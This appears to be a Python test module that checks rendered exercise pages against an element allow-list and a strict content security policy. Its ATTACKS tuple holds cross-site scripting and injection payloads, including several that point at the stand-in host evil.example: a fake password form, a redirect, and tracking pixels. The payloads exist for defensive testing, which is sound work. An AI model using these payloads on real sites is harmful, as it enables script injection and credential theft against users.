"""What a page must not hold: script, style of others, forms, frames, anything that a browser would fetch."""

import base64
import hashlib
import re
from html.parser import HTMLParser

ELEMENTS = set("""html head meta title style body header footer main nav section div p span b strong i em u s del sub sup small code pre kbd samp
    h1 h2 h3 h4 h5 h6 ul ol li dl dt dd blockquote br hr a img figure table thead tbody tfoot tr th td caption details summary bdi input label
    svg rect text line math mrow mi mn mo mtext mspace mfrac msqrt mroot msub msup msubsup munder mover munderover mtable mtr mtd mstyle
    mpadded mphantom menclose""".split())
POLICY = "default-src 'none'; img-src data:; style-src '{}'; base-uri 'none'; form-action 'none'"

# Each is tried wherever a student or a person can write something. The canary is a page's title or a dialog.
ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror='alert(1)'>",
    "</title></style></pre></textarea><script>alert(1)</script>",
    "<iframe src=https://evil.example/></iframe><object data=https://evil.example/></object>",
    "<form action=https://evil.example/><input name=password><button>ok</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/><link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{display:none} body{background:url(https://evil.example/x)}</style>",
    "<p style='position:fixed;inset:0;background:url(https://evil.example/y)' class=exercise id=e1>over all</p>",
    "<a href='javascript:alert(1)' onclick=alert(1)>x</a> [x](javascript:alert(1)) [x](JaVa\tScRiPt:alert(1)) [x](data:text/html,hi)",
    "![x](https://evil.example/pixel.png) <img src=https://evil.example/pixel.png> ![y](//evil.example/p.png)",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "$\\href{javascript:alert(1)}{x}$ $\\text{<script>alert(1)</script>}$ $\\text{\" onmouseover=alert(1) \"}$",
    "![$\\text{\" onerror=alert(1) \"}$](attachment:a.png)",
    "{{ 7*7 }}{% raw %}<b onclick=alert(1)>",
    "\x1b]0;evil\x07\x1b[31m<script>alert(1)</script>\x1b[0m\x00\ud800\u202e",
    "<details ontoggle=alert(1) open><video src=https://evil.example/v autoplay></video>",
)


class Reader(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found, self.data, self.within = [], [], None
        self.styles = []

    def handle_starttag(self, tag, attributes):
        self.found.append((tag, dict(attributes)))
        self.within = tag

    def handle_endtag(self, tag):
        self.within = None

    def handle_data(self, data):
        (self.styles if self.within == "style" else self.data).append(data)


def read(page):
    reader = Reader()
    reader.feed(page)
    reader.close()
    return reader


def text(page):
    """What a person reads on the page."""
    return re.sub(r"\s+", " ", "".join(read(page).data))


def assert_harmless(page):
    reader = read(page)
    (style,) = reader.styles
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
    policies = [a["content"] for tag, a in reader.found if tag == "meta" and a.get("http-equiv")]
    assert policies == [POLICY.format(f"sha256-{digest}")]
    assert "url(" not in style and "@import" not in style
    for tag, attributes in reader.found:
        assert tag in ELEMENTS, tag
        for name, value in attributes.items():
            assert not name.startswith("on") and name not in ("style", "srcset", "srcdoc", "action", "formaction", "xlink:href", "ping"), (tag, name)
            if name == "src":
                assert tag == "img" and re.match(r"data:image/(png|jpeg|svg\+xml);base64,[A-Za-z0-9+/=]*\Z", value), value[:80]
            if name == "href":
                assert tag == "a" and re.match(r"#|https?://|mailto:|\.\./", value), value
            if tag == "input":
                assert attributes["type"] == "radio"
    page.encode("utf-8")
